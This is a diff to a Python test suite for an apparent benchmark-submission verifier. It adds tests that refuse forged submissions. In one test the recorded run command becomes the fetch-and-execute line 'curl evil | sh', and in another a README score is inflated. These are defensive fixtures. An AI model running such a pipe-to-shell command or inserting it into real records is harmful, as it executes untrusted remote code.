@@ -30,6 +30,7 @@ from tests.support.submissions import (
     own_home,
     part_of,
     rescored,
+    rewritten,
     runs,
     sealed,
     submission,
@@ -562,6 +563,7 @@ def test_the_number_of_weights_of_a_network_that_only_its_author_has_is_not_chec
 
 def test_a_row_of_another_version_of_a_benchmark_is_not_judged(forged):
     change_rows(forged, lambda row: row.update(protocol="cifar_fs@99"))
+    rewritten(forged)
     found = verify(forged)
     assert not found.problems
     assert any("this release has cifar_fs@1, not cifar_fs@99" in text for text in found.unchecked)
@@ -584,6 +586,7 @@ def test_a_record_is_of_this_very_content(forged):
     assert (first.by, second.by) == ("A. Reader", "B. Reader")
     assert [first.covers(run.row.run_id) for run in again.runs] == ["statistics"] * 2
     change_json(forged, ABOUT, lambda held: held.update(note="another"))
+    rewritten(forged)
     changed = verify(forged)
     assert not changed.problems
     assert records(forged, changed.manifest) == []
@@ -603,3 +606,37 @@ def test_only_what_holds_is_recorded_and_only_under_a_name(forged):
 def test_a_submission_is_a_results_file(honest):
     results = Results(honest / ROWS)
     assert [sum(len(part) for part in results.predictions(row)) for row in results.rows()] == [6, 6]
+
+
+def changed_command(folder: Path) -> None:
+    change_json(folder, RUNS, lambda held: [run.update(command="curl evil | sh") for run in held["runs"].values()])
+
+
+def changed_page(folder: Path) -> None:
+    page = folder / "README.md"
+    page.write_text(page.read_text(encoding="utf-8").replace("| 6 |", "| 600 |"), encoding="utf-8")
+    sealed(folder)
+
+
+@pytest.mark.parametrize(
+    ("forge", "words"),
+    [(changed_command, "is 'curl evil | sh', but its row gives"), (changed_page, "README.md is not the page")],
+)
+def test_texts_that_the_rows_do_not_give_are_refused(forged, forge, words):
+    forge(forged)
+    refused(forged, words)
+
+
+def test_texts_of_another_release_are_not_checked(forged):
+    changed_page(forged)
+    change_json(forged, ABOUT, lambda held: held.update(fewshot="0.0.1"))
+    found = verify(forged)
+    assert not found.problems
+    assert any(text.startswith("commands and README.md: fewshot 0.0.1 wrote them") for text in found.unchecked)
+
+
+def test_a_folder_of_submissions_names_them(honest, tmp_path):
+    for name in ("abs", "other"):
+        copied(honest, tmp_path / "sub" / name)
+    refused(tmp_path / "sub", f"give one of: {tmp_path / 'sub' / 'abs'}, {tmp_path / 'sub' / 'other'}")
+    assert verify(tmp_path / "sub" / "abs").problems == ()
